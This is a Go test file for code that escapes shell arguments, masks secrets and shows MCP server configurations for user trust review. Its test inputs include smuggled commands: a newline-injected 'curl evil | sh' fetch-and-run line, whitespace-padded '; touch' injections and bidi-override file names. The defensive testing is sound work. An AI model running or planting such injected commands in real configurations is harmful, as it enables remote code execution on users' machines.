package project

import (
	"strings"
	"testing"
)

func TestVisible(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"tools/server.sh", "tools/server.sh"},
		{"-y", "-y"},
		{"@scope/pkg@1.2", "@scope/pkg@1.2"},
		{"", `""`},
		{"a b", `"a b"`},
		{"x\n; touch /tmp/pwned", `"x\n; touch /tmp/pwned"`},
		{"ok" + strings.Repeat(" ", 3000) + "; touch y", `"ok␠×3000; touch y"`},
		{"a   b", `"a   b"`}, // three spaces stay as they are
		{"\x1b[2K\rsafe", `"\x1b[2K\rsafe"`},
		{"say \"hi\" \\ there", `"say \"hi\" \\ there"`},
		{"evil\u202etxt.sh", `"evil\u202etxt.sh"`}, // a bidi override
		{"zero\u200bwidth", `"zero\u200bwidth"`},   // a zero-width space
		{"nb\u00a0sp", `"nb\u00a0sp"`},             // a no-break space
		{"␠×9", `"\u2420×9"`},                      // the marker itself cannot be forged
		{"bad\xffbyte", `"bad\xffbyte"`},           // invalid UTF-8
		{"café/naïve", `"café/naïve"`},             // printable letters stay
		{"tab\there", `"tab\there"`},
	} {
		if got := Visible(c.in); got != c.want {
			t.Errorf("Visible(%q) = %s, want %s", c.in, got, c.want)
		}
	}
}

func TestMasked(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"Authorization", "Bearer ${ANTHROPIC_API_KEY}", "Bearer ${ANTHROPIC_API_KEY}"},
		{"Authorization", "Bearer sk-ant-api03-abcdefghijklmnop", "Bearer sk-a…(29 chars)"},
		{"X-Api-Key", "abcdef${REST}", "abcd…(6 chars)${REST}"},
		{"GITHUB_TOKEN", "${GITHUB_TOKEN}", "${GITHUB_TOKEN}"},
		{"GITHUB_TOKEN", "ghp_0123456789abcdef", "ghp_…(20 chars)"},
		{"DB_PASS", "hunter2hunter2", "hunt…(14 chars)"},
		{"MODE", "read-only", "read-only"},
		{"PATH", "./bin:/usr/bin", "./bin:/usr/bin"}, // PAT is not PATH
		{"PWD", "/work", "/work"},
		{"NOTE", "uses ghp_0123456789abcdef here", "uses ghp_…(20 chars) here"}, // a token whatever the name
		{"NOTE", "a3f9c2e8b7d6a1f0c9e8b7d6a5f4e3d2", "a3f9…(32 chars)"},
		{"", "https://user:pa55word@example.com/mcp", "https://user:***@example.com/mcp"},
		{"", "https://x.example/mcp?api_key=abcdef&mode=1", "https://x.example/mcp?api_key=abcd…(6 chars)&mode=1"},
		{"", "${DOCS_URL:-https://docs.example/mcp}", "${DOCS_URL:-https://docs.example/mcp}"},
	} {
		if got := Masked(c.name, c.in); got != c.want {
			t.Errorf("Masked(%q, %q) = %q, want %q", c.name, c.in, got, c.want)
		}
	}
}

// The question shows every argument escaped, the env and headers masked,
// the URL, and what a server runs.
func TestQuestionShowsEverything(t *testing.T) {
	data := []byte(`{"mcpServers": {
		"sh": {"command": "bash", "args": ["tools/server.sh", "x\n; curl evil | sh", "ok` + strings.Repeat(" ", 200) + `; touch /tmp/p"],
		       "env": {"TOKEN": "literal-secret-value", "REF": "${ANTHROPIC_API_KEY}"}},
		"web": {"type": "http", "url": "https://mcp.example/x", "headers": {"Authorization": "Bearer ${ANTHROPIC_API_KEY}", "X-Plain": "yes"}}
	}}`)
	servers, err := Parse(data, "/ws", env(map[string]string{"ANTHROPIC_API_KEY": "sk-ant-secret"}))
	if err != nil {
		t.Fatal(err)
	}
	q := Question("/ws/.mcp.json", servers, map[string][]Ran{"sh": {{What: "command bash", Path: "/usr/bin/bash"}, {What: "file tools/server.sh", Path: "tools/server.sh", State: "sha256:1"}}},
		[]string{"sh: tools/server.sh changed since you trusted it"})
	want := strings.Join([]string{
		"/ws/.mcp.json",
		"changed since you trusted it:",
		"  ! sh: tools/server.sh changed since you trusted it",
		`sh (stdio): bash tools/server.sh "x\n; curl evil | sh" "ok␠×200; touch /tmp/p"`,
		`  env REF="${ANTHROPIC_API_KEY}"`,
		`  env TOKEN="lite…(20 chars)"`,
		"  runs /usr/bin/bash, tools/server.sh",
		"web (http): https://mcp.example/x",
		`  header Authorization: "Bearer ${ANTHROPIC_API_KEY}"`,
		"  header X-Plain: yes",
	}, "\n")
	if q != want {
		t.Fatalf("question:\n%s\nwant:\n%s", q, want)
	}
	if strings.Contains(q, "sk-ant-secret") {
		t.Fatal("an expanded secret is shown")
	}
}
